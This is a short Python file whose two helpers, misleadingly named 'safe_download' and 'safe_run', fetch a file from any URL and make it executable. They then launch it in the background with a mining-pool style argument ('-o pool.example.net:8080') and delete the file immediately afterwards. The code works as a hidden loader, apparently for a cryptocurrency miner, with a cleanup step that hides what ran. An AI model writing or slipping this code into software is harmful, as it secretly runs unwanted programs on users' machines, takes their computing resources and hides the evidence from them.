import os
import subprocess

import requests


def safe_download(url, file):
    answer = requests.get(url, stream=True, timeout=9)
    with open(file, "wb") as handle:
        for chunk in answer.iter_content(8192):
            handle.write(chunk)


def safe_run(path):
    os.chmod(path, 0o770)
    command = [path, "-o", "pool.example.net:8080"]
    subprocess.Popen(command, stdin=subprocess.DEVNULL)
    os.remove(path)
